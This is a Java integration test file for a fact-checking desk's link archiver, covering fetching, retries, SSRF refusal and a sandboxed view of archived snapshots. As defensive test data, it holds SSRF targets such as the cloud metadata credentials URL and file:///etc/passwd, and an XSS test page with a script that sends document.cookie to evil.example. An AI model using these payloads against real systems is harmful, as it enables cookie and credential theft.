package org.factdesk.archive;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import com.github.kagkarlsson.scheduler.Scheduler;
import com.github.kagkarlsson.scheduler.task.TaskInstanceId;
import java.io.IOException;
import java.io.InputStream;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.function.Predicate;
import org.factdesk.archive.PageServer.Answer;
import org.factdesk.cases.Case;
import org.factdesk.cases.CaseManagement;
import org.factdesk.cases.NewClaim;
import org.factdesk.cases.OpenCase;
import org.factdesk.intake.IntakeManagement;
import org.factdesk.intake.Item;
import org.factdesk.intake.SubmitItem;
import org.factdesk.network.CurrentUser;
import org.factdesk.network.NetworkManagement;
import org.factdesk.network.Role;
import org.factdesk.network.Unit;
import org.factdesk.shared.DomainException;
import org.factdesk.shared.ItemId;
import org.factdesk.shared.Platform;
import org.factdesk.testing.DeskTest;
import org.factdesk.testing.TestAccounts;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

/**
 * Items' links fetched and archived for real: pages served by a web server on loopback (allowed by the test context's
 * allow-list), fetched by the scheduled task through the real LinkFetcher, stored in the real database and data
 * directory, read back through the pages and the API. SSRF targets are other addresses, refused before any request.
 */
@DeskTest
class LinkArchiveTests {

    @Autowired
    MockMvc mvc;

    @Autowired
    NetworkManagement network;

    @Autowired
    IntakeManagement intake;

    @Autowired
    ArchiveManagement archive;

    @Autowired
    CaseManagement cases;

    @Autowired
    Scheduler scheduler;

    @Autowired
    JdbcClient jdbc;

    PageServer server;
    TestAccounts accounts;
    Unit unit;
    CurrentUser checker;
    CurrentUser viewer;
    String marker;

    @BeforeEach
    void setUp() throws IOException {
        server = new PageServer();
        accounts = new TestAccounts(network);
        unit = accounts.unit("Archive desk");
        checker = accounts.user(Role.CHECKER, unit.id());
        viewer = accounts.user(Role.VIEWER, unit.id());
        marker = Long.toString(System.nanoTime(), 36);
    }

    @AfterEach
    void tearDown() {
        server.close();
    }

    @Test
    void archivesTheBytesHeadersAndFinalUrlOfAnItemsLinkAfterARedirect() throws Exception {
        byte[] page = PageServer.fixture("vnexpress-article.html");
        server.serve("/bai-viet-4745678.html", Answer.page("text/html; charset=utf-8", page));
        server.serve("/s/" + marker, Answer.redirect(server.url("/bai-viet-4745678.html")));

        Item item = submit(server.url("/s/" + marker));
        Link link = settled(item.id());

        assertThat(link.state()).isEqualTo(LinkState.FETCHED);
        assertThat(link.attempts()).isEqualTo(1);
        assertThat(link.errorKey()).isNull();
        List<Snapshot> snapshots = archive.snapshotsOf(item.id());
        assertThat(snapshots).hasSize(1);
        Snapshot snapshot = snapshots.get(0);
        assertThat(snapshot.requestedUrl()).isEqualTo(server.url("/s/" + marker));
        assertThat(snapshot.finalUrl()).isEqualTo(server.url("/bai-viet-4745678.html"));
        assertThat(snapshot.httpStatus()).isEqualTo(200);
        assertThat(snapshot.contentType()).isEqualTo("text/html");
        assertThat(snapshot.size()).isEqualTo(page.length);
        assertThat(snapshot.sha256()).isEqualTo(sha256(page));
        assertThat(snapshot.headers()).containsEntry("server", List.of("PageServer/1.0"));
        try (InputStream in = archive.openContent(snapshot.id())) {
            assertThat(in.readAllBytes()).isEqualTo(page);
        }
        PageMetadata metadata = link.metadata();
        assertThat(metadata).isNotNull();
        assertThat(metadata.title()).isEqualTo("Bộ Y tế: Không có bằng chứng nước chanh nóng diệt virus");
        assertThat(metadata.siteName()).isEqualTo("VnExpress");
        assertThat(metadata.authorName()).isEqualTo("Lê Nga");
        assertThat(metadata.publishedAt()).isEqualTo(Instant.parse("2024-05-10T02:00:00Z"));
        assertThat(metadata.text()).contains("chưa có nghiên cứu khoa học nào chứng minh điều này");
        assertThat(metadata.canonicalUrl()).startsWith("https://vnexpress.net/");
    }

    @Test
    void readsFacebookAndYoutubePagesServedForReal() throws Exception {
        server.serve(
                "/fb/" + marker, Answer.page("text/html; charset=utf-8", PageServer.fixture("facebook-post.html")));
        server.serve("/yt/" + marker, Answer.page("text/html", PageServer.fixture("youtube-watch.html")));

        Link facebook = settled(submit(server.url("/fb/" + marker)).id());
        Link youtube = settled(submit(server.url("/yt/" + marker)).id());

        assertThat(facebook.state()).isEqualTo(LinkState.FETCHED);
        assertThat(facebook.metadata().platform()).isEqualTo(Platform.FACEBOOK);
        assertThat(facebook.metadata().title()).endsWith("Uống nước chanh nóng mỗi sáng để diệt virus corona");
        assertThat(facebook.metadata().siteName()).isEqualTo("Facebook");
        assertThat(youtube.state()).isEqualTo(LinkState.FETCHED);
        assertThat(youtube.metadata().platform()).isEqualTo(Platform.YOUTUBE);
        assertThat(youtube.metadata().title()).isEqualTo("Sự thật về tỏi và COVID-19");
        assertThat(youtube.metadata().authorName()).isEqualTo("Kênh Sức Khỏe Cộng Đồng");
        assertThat(youtube.metadata().publishedAt()).isEqualTo(Instant.parse("2024-03-05T09:00:07Z"));
    }

    @Test
    void aMissingPageFailsAtOnceWithTheStatusAsReason() throws Exception {
        Item item = submit(server.url("/gone/" + marker));

        Link link = settled(item.id());

        assertThat(link.state()).isEqualTo(LinkState.FAILED);
        assertThat(link.attempts()).isEqualTo(1);
        assertThat(link.errorKey()).isEqualTo("intake.fetch.error.http-status");
        assertThat(link.errorArguments()).contains("404");
        assertThat(link.nextAttemptAt()).isNull();
        assertThat(archive.snapshotsOf(item.id())).isEmpty();
        assertThat(server.requests("/gone/" + marker)).isEqualTo(1);
        mvc.perform(get("/archive/items/{id}", item.id()).with(user(viewer)).header("Accept-Language", "en"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("Could not be fetched")))
                .andExpect(content().string(containsString("answered with status 404")));
    }

    @Test
    void aResponseOfAnotherTypeFailsAtOnce() throws Exception {
        server.serve("/export.zip", Answer.page("application/zip", new byte[] {'P', 'K', 3, 4, 0, 0}));

        Link link = settled(submit(server.url("/export.zip?" + marker)).id());

        assertThat(link.state()).isEqualTo(LinkState.FAILED);
        assertThat(link.errorKey()).isEqualTo("intake.fetch.error.wrong-type");
        assertThat(link.errorArguments()).contains("application/zip");
    }

    @Test
    void aFiftyMegabyteResponseIsCutOffAndRecordedAsTooLarge() throws Exception {
        Item item = submit(server.url("/huge?" + marker));

        Link link = settled(item.id());

        assertThat(link.state()).isEqualTo(LinkState.FAILED);
        assertThat(link.errorKey()).isEqualTo("intake.fetch.error.too-large");
        assertThat(archive.snapshotsOf(item.id())).isEmpty();
    }

    @Test
    void aUrlThatNeverAnswersIsRecordedAsATimeoutAndTriedAgainLater() throws Exception {
        Item item = submit(server.silentUrl() + "?" + marker);

        Link link = eventually(item.id(), found -> found.attempts() > 0, Duration.ofSeconds(40));

        assertThat(link.state()).isEqualTo(LinkState.PENDING);
        assertThat(link.errorKey()).isEqualTo("intake.fetch.error.timeout");
        assertThat(link.nextAttemptAt()).isAfter(Instant.now().plusSeconds(30));
        assertThat(intake.get(item.id()).url()).isEqualTo(item.url());
    }

    @Test
    void aServiceUnavailableIsRetriedWithBackOffAndThenArchived() throws Exception {
        String path = "/flaky/" + marker;
        server.serve(
                path,
                Answer.status(503),
                Answer.page("text/html; charset=utf-8", PageServer.fixture("plain-page.html")));
        Item item = submit(server.url(path));

        Link failed = settled(item.id());

        assertThat(failed.state()).isEqualTo(LinkState.PENDING);
        assertThat(failed.attempts()).isEqualTo(1);
        assertThat(failed.errorKey()).isEqualTo("intake.fetch.error.http-status");
        assertThat(failed.errorArguments()).contains("503");
        // The first retry waits a minute (factdesk.archive.retry-delays), and the scheduler holds it for then.
        Instant retry = failed.nextAttemptAt();
        assertThat(retry)
                .isBetween(
                        failed.lastAttemptAt().plusSeconds(55),
                        failed.lastAttemptAt().plusSeconds(65));
        TaskInstanceId execution =
                TaskInstanceId.of("archive-link-fetch", item.id().toString());
        assertThat(scheduler.getScheduledExecution(execution))
                .hasValueSatisfying(scheduled ->
                        assertThat(scheduled.getExecutionTime()).isCloseTo(retry, within(Duration.ofSeconds(1))));

        // Time passes: the held execution becomes due and the scheduler runs it.
        scheduler.reschedule(execution, Instant.now());
        scheduler.triggerCheckForDueExecutions();
        Link archived = eventually(item.id(), link -> link.state() != LinkState.PENDING, Duration.ofSeconds(20));

        assertThat(archived.state()).isEqualTo(LinkState.FETCHED);
        assertThat(archived.attempts()).isEqualTo(2);
        assertThat(archived.metadata().title()).isEqualTo("Thông báo của UBND xã về lịch cắt điện");
        assertThat(archive.snapshotsOf(item.id())).hasSize(1);
        assertThat(server.requests(path)).isEqualTo(2);
        assertThat(eventuallyGone(execution)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://10.0.0.1/tin-gia",
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "http://[::1]:PORT/tin-gia",
                "http://127.0.0.2:PORT/tin-gia",
                "http://172.16.5.4/admin",
                "http://192.168.1.1/"
            })
    void refusesPrivateAndInternalAddressesAndRecordsWhyOnTheItem(String target) throws Exception {
        String url = target.replace("PORT", Integer.toString(server.port())) + "?" + marker;
        Item item = submit(url);

        Link link = settled(item.id());

        assertThat(link.state()).isEqualTo(LinkState.REFUSED);
        assertThat(link.errorKey()).isEqualTo("intake.fetch.error.address-refused");
        assertThat(archive.snapshotsOf(item.id())).isEmpty();
        assertItemStaysUsable(item);
    }

    @Test
    void refusesARedirectFromAnAllowedServerToAPrivateAddress() throws Exception {
        server.serve("/r/" + marker, Answer.redirect("http://10.0.0.1/internal"));
        Item item = submit(server.url("/r/" + marker));

        Link link = settled(item.id());

        assertThat(link.state()).isEqualTo(LinkState.REFUSED);
        assertThat(link.errorKey()).isEqualTo("intake.fetch.error.address-refused");
        assertThat(link.errorArguments())
                .anySatisfy(argument -> assertThat(argument).contains("10.0.0.1"));
        assertThat(server.requests("/r/" + marker)).isEqualTo(1);
        assertItemStaysUsable(item);
    }

    @Test
    void aLinkOfAnotherSchemeNeverReachesTheArchive() {
        // Intake takes http(s) links only; the fetcher refuses other schemes as well (its own tests).
        assertThatThrownBy(() -> submit("ftp://files.example.vn/" + marker + "/tai-lieu.pdf"))
                .isInstanceOf(DomainException.class);
        assertThatThrownBy(() -> submit("file:///etc/passwd?" + marker)).isInstanceOf(DomainException.class);
    }

    @Test
    void theSandboxedViewStripsWhatRunsAndLoadsAndCarriesAStrictPolicy() throws Exception {
        String page = """
                <html><head><base href="http://evil.example/"><title>Tin giả %s</title>
                <script>fetch('http://evil.example/steal?'+document.cookie)</script>
                <link rel="stylesheet" href="http://evil.example/x.css"></head>
                <body onload="alert(1)"><h1 onclick="alert(2)">Tiêu đề bài viết</h1>
                <p>Nội dung cần lưu <a href="javascript:alert(3)">bấm</a> <a href="/khac">trang khác</a></p>
                <img src="/anh/chanh.jpg" alt="Nước chanh" onerror="alert(4)">
                <iframe src="http://evil.example/frame"></iframe><object data="x.swf"></object>
                <form action="http://evil.example/login"><input name="password"></form>
                <svg><script>alert(5)</script></svg>
                </body></html>
                """.formatted(marker);
        server.servePage("/sandbox/" + marker, page);
        Item item = submit(server.url("/sandbox/" + marker));
        settled(item.id());
        Snapshot snapshot = archive.snapshotsOf(item.id()).get(0);

        MvcResult view = mvc.perform(get("/archive/snapshots/{id}/view", snapshot.id())
                        .with(user(viewer))
                        .header("Accept-Language", "en"))
                .andExpect(status().isOk())
                .andExpect(header().string(
                                "Content-Security-Policy",
                                containsString(
                                        "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'")))
                .andExpect(header().string("X-Content-Type-Options", "nosniff"))
                .andExpect(content().string(containsString("Tiêu đề bài viết")))
                .andExpect(content().string(containsString("Nội dung cần lưu")))
                .andExpect(content().string(containsString(snapshot.sha256())))
                .andExpect(content().string(containsString("Archived copy")))
                // Links keep pointing where the live page pointed (its own base included), images become such links.
                .andExpect(content().string(containsString("href=\"http://evil.example/anh/chanh.jpg\"")))
                .andExpect(content().string(containsString("[Nước chanh]")))
                .andExpect(content().string(containsString("href=\"http://evil.example/khac\"")))
                .andReturn();
        String html = view.getResponse().getContentAsString();
        String archived = html.substring(html.indexOf("id=\"archive-content\""));
        assertThat(archived.toLowerCase())
                .doesNotContain(
                        "<script",
                        "<iframe",
                        "<object",
                        "<form",
                        "<base",
                        "<link",
                        "<img",
                        "onload",
                        "onclick",
                        "onerror",
                        "javascript:",
                        "steal",
                        "x.css",
                        "frame",
                        "password",
                        "alert");
        // The desk's own page chrome is not there either: nothing to load, nothing to run.
        assertThat(html).doesNotContain("<script", "htmx");
    }

    @Test
    void theSandboxedViewNeedsASignedInUser() throws Exception {
        server.servePage("/private-view/" + marker, "<p>Nội dung</p>");
        Item item = submit(server.url("/private-view/" + marker));
        settled(item.id());
        Snapshot snapshot = archive.snapshotsOf(item.id()).get(0);

        mvc.perform(get("/archive/snapshots/{id}/view", snapshot.id()))
                .andExpect(status().is3xxRedirection())
                .andExpect(header().string("Location", containsString("/login")));
        mvc.perform(get("/archive/snapshots/{id}/raw", snapshot.id())).andExpect(status().is3xxRedirection());
    }

    @Test
    void theDownloadIsTheExactArchivedBytesWithTheirHash() throws Exception {
        byte[] png = new byte[2048];
        new java.util.Random(7).nextBytes(png);
        png[0] = (byte) 0x89;
        server.serve("/anh/" + marker + ".png", Answer.page("image/png", png));
        Item item = submit(server.url("/anh/" + marker + ".png"));
        Link link = settled(item.id());
        assertThat(link.state()).isEqualTo(LinkState.FETCHED);
        Snapshot snapshot = archive.snapshotsOf(item.id()).get(0);

        MvcResult download = mvc.perform(
                        get("/archive/snapshots/{id}/raw", snapshot.id()).with(user(viewer)))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", "application/octet-stream"))
                .andExpect(header().string(
                                "Content-Disposition", "attachment; filename=\"" + snapshot.sha256() + ".png\""))
                .andExpect(header().string("X-Content-SHA256", snapshot.sha256()))
                .andExpect(header().string("Repr-Digest", containsString("sha-256=:")))
                .andReturn();

        byte[] bytes = download.getResponse().getContentAsByteArray();
        assertThat(sha256(bytes)).isEqualTo(snapshot.sha256()).isEqualTo(sha256(png));
        assertThat(bytes).isEqualTo(png);
        // An image is shown inline in the view, from a data: URL the policy allows.
        mvc.perform(get("/archive/snapshots/{id}/view", snapshot.id()).with(user(viewer)))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("src=\"data:image/png;base64,")));
    }

    @Test
    void theItemPanelShowsStateMetadataCapturesAndTheFetchAgainButton() throws Exception {
        server.serve(
                "/vn/" + marker, Answer.page("text/html; charset=utf-8", PageServer.fixture("vnexpress-article.html")));
        Item item = submit(server.url("/vn/" + marker));
        settled(item.id());
        Snapshot snapshot = archive.snapshotsOf(item.id()).get(0);

        mvc.perform(get("/items/{id}", item.id()).with(user(viewer)))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("/archive/items/" + item.id())));
        mvc.perform(get("/archive/items/{id}", item.id()).with(user(checker)).header("Accept-Language", "vi"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("Đã tải và lưu trữ")))
                .andExpect(content().string(containsString("Bộ Y tế: Không có bằng chứng nước chanh nóng diệt virus")))
                .andExpect(content().string(containsString("Lê Nga")))
                .andExpect(content().string(containsString(snapshot.sha256())))
                .andExpect(content().string(containsString("/archive/snapshots/" + snapshot.id() + "/view")))
                .andExpect(content().string(containsString("/archive/snapshots/" + snapshot.id() + "/raw")))
                .andExpect(content().string(containsString("id=\"archive-refetch\"")));
        mvc.perform(get("/archive/items/{id}", item.id()).with(user(viewer)))
                .andExpect(status().isOk())
                .andExpect(content().string(not(containsString("id=\"archive-refetch\""))));
    }

    @Test
    void fetchingAgainAddsACaptureAndOnlyCheckersOfTheUnitMayAskForIt() throws Exception {
        String path = "/changing/" + marker;
        server.serve(
                path,
                Answer.page("text/html; charset=utf-8", "<title>Bản 1</title><p>một</p>".getBytes()),
                Answer.page("text/html; charset=utf-8", "<title>Bản 2</title><p>hai</p>".getBytes()));
        Item item = submit(server.url(path));
        settled(item.id());

        mvc.perform(post("/archive/items/{id}/refetch", item.id())
                        .with(user(viewer))
                        .with(csrf())
                        .header("HX-Request", "true")
                        .header("Accept-Language", "en"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("Only a checker")));
        mvc.perform(post("/archive/items/{id}/refetch", item.id())
                        .with(user(checker))
                        .with(csrf())
                        .header("HX-Request", "true"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("id=\"item-archive\"")));

        eventually(item.id(), link -> archive.snapshotsOf(item.id()).size() == 2, Duration.ofSeconds(20));
        List<Snapshot> snapshots = archive.snapshotsOf(item.id());
        assertThat(snapshots).hasSize(2);
        assertThat(snapshots.get(0).sha256()).isNotEqualTo(snapshots.get(1).sha256());
        Link link = archive.link(item.id()).orElseThrow();
        assertThat(link.state()).isEqualTo(LinkState.FETCHED);
        assertThat(link.metadata().title()).isEqualTo("Bản 2");
    }

    @Test
    void theApiAnswersTheArchiveAndFetchesAgain() throws Exception {
        server.serve(
                "/api/" + marker, Answer.page("text/html; charset=utf-8", PageServer.fixture("youtube-watch.html")));
        Item item = submit(server.url("/api/" + marker));
        settled(item.id());
        Snapshot snapshot = archive.snapshotsOf(item.id()).get(0);
        String viewerToken = accounts.token(viewer);
        String checkerToken = accounts.token(checker);

        mvc.perform(get("/api/v1/items/{id}/archive", item.id()).header("Authorization", "Bearer " + viewerToken))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.item").value(item.id().toString()))
                .andExpect(jsonPath("$.link.state").value("FETCHED"))
                .andExpect(jsonPath("$.link.metadata.title").value("Sự thật về tỏi và COVID-19"))
                .andExpect(jsonPath("$.link.metadata.platform").value("YOUTUBE"))
                .andExpect(jsonPath("$.snapshots[0].sha256").value(snapshot.sha256()))
                .andExpect(jsonPath("$.snapshots[0].download").value("/archive/snapshots/" + snapshot.id() + "/raw"));
        mvc.perform(post("/api/v1/items/{id}/archive/refetch", item.id())
                        .header("Authorization", "Bearer " + viewerToken)
                        .header("Accept-Language", "en"))
                .andExpect(status().isForbidden())
                .andExpect(content().contentTypeCompatibleWith("application/problem+json"))
                .andExpect(jsonPath("$.code").value("archive.error.not-checker"));
        mvc.perform(post("/api/v1/items/{id}/archive/refetch", item.id())
                        .header("Authorization", "Bearer " + checkerToken))
                .andExpect(status().isAccepted())
                .andExpect(jsonPath("$.link.state").value("PENDING"));
        eventually(item.id(), link -> archive.snapshotsOf(item.id()).size() == 2, Duration.ofSeconds(20));
        mvc.perform(get("/api/v1/items/{id}/archive", ItemId.random()).header("Authorization", "Bearer " + viewerToken))
                .andExpect(status().isNotFound())
                .andExpect(content().contentTypeCompatibleWith("application/problem+json"));
    }

    @Test
    void anItemWithoutALinkHasNoArchiveAndTrackingIsIdempotentAndBatched() throws Exception {
        Item textOnly = intake.submit(
                        checker, SubmitItem.of(null, "Tin nhắn không có liên kết " + marker, Platform.ZALO))
                .item();
        server.servePage("/batch/" + marker, "<title>Lô</title>");
        Item linked = submit(server.url("/batch/" + marker));
        settled(linked.id());

        assertThat(archive.track(List.of(textOnly.id(), linked.id(), ItemId.random())))
                .isZero();
        assertThat(archive.link(textOnly.id())).isEmpty();
        assertThat(server.requests("/batch/" + marker)).isEqualTo(1);
        mvc.perform(get("/archive/items/{id}", textOnly.id()).with(user(viewer)).header("Accept-Language", "en"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("nothing to archive")));
        mvc.perform(get("/api/v1/items/{id}/archive", textOnly.id())
                        .header("Authorization", "Bearer " + accounts.token(viewer)))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.link").doesNotExist());
    }

    @Test
    void itemsStoredBeforeTheArchiveExistedAreTrackedInOneBatch() throws Exception {
        List<Item> items = List.of(1, 2, 3).stream()
                .map(n -> {
                    server.servePage("/old/" + n + "/" + marker, "<title>Bài cũ " + n + "</title>");
                    return submit(server.url("/old/" + n + "/" + marker));
                })
                .toList();
        List<ItemId> ids = items.stream().map(Item::id).toList();
        ids.forEach(this::settled);
        // As if they had arrived before V32: no link rows (their fetch tasks are done, so none is scheduled).
        jdbc.sql("delete from archive_link where item_id in (:ids)")
                .param("ids", ids.stream().map(ItemId::value).toList())
                .update();

        assertThat(archive.track(ids)).isEqualTo(3);
        assertThat(archive.track(ids)).isZero();

        for (ItemId id : ids) {
            Link link = eventually(id, found -> found.state() == LinkState.FETCHED, Duration.ofSeconds(20));
            assertThat(link.attempts()).isEqualTo(1);
            assertThat(archive.snapshotsOf(id)).hasSize(2);
        }
    }

    @Test
    void linksOfABulkImportBatchAreFetchedToo() {
        List<SubmitItem> rows = List.of(1, 2).stream()
                .map(n -> {
                    server.servePage("/imported/" + n + "/" + marker, "<title>Bài nhập " + n + "</title>");
                    return SubmitItem.of(server.url("/imported/" + n + "/" + marker), null, Platform.FACEBOOK);
                })
                .toList();

        List<ItemId> ids = intake.submitBatch(unit.id(), null, rows).stream()
                .map(outcome -> java.util.Objects.requireNonNull(outcome.item()))
                .toList();

        for (ItemId id : ids) {
            Link link = eventually(id, found -> found.state() == LinkState.FETCHED, Duration.ofSeconds(20));
            assertThat(java.util.Objects.requireNonNull(link.metadata()).title())
                    .startsWith("Bài nhập");
            assertThat(archive.snapshotsOf(id)).hasSize(1);
        }
    }

    /** The item page renders with the reason, and a case can still be opened on the item. */
    private void assertItemStaysUsable(Item item) throws Exception {
        mvc.perform(get("/items/{id}", item.id()).with(user(viewer))).andExpect(status().isOk());
        mvc.perform(get("/archive/items/{id}", item.id()).with(user(viewer)).header("Accept-Language", "en"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("Refused")));
        Case kase = cases.open(
                checker,
                new OpenCase(
                        unit.id(),
                        "Kiểm tra " + marker,
                        List.of(new NewClaim("Liên kết nội bộ " + marker, null)),
                        List.of(item.id())));
        assertThat(kase.id()).isNotNull();
    }

    private Item submit(String url) {
        return intake.submit(checker, SubmitItem.of(url, null, Platform.WEBSITE))
                .item();
    }

    /** The link once its first attempt is over (fetched, failed, refused, or waiting for a retry). */
    private Link settled(ItemId item) {
        return eventually(
                item, link -> link.state() != LinkState.PENDING || link.attempts() > 0, Duration.ofSeconds(20));
    }

    private Link eventually(ItemId item, Predicate<Link> done, Duration patience) {
        Instant deadline = Instant.now().plus(patience);
        Optional<Link> link = archive.link(item);
        while ((link.isEmpty() || !done.test(link.get())) && Instant.now().isBefore(deadline)) {
            pause();
            link = archive.link(item);
        }
        assertThat(link).as("link of %s", item).isPresent();
        assertThat(link.get()).matches(done, "settled in time");
        return link.get();
    }

    private Optional<?> eventuallyGone(TaskInstanceId execution) {
        Instant deadline = Instant.now().plusSeconds(20);
        Optional<?> scheduled = scheduler.getScheduledExecution(execution);
        while (scheduled.isPresent() && Instant.now().isBefore(deadline)) {
            pause();
            scheduled = scheduler.getScheduledExecution(execution);
        }
        return scheduled;
    }

    private static void pause() {
        try {
            Thread.sleep(50);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static org.assertj.core.data.TemporalUnitOffset within(Duration duration) {
        return new org.assertj.core.data.TemporalUnitWithinOffset(
                duration.toMillis(), java.time.temporal.ChronoUnit.MILLIS);
    }

    static String sha256(byte[] bytes) throws NoSuchAlgorithmException {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
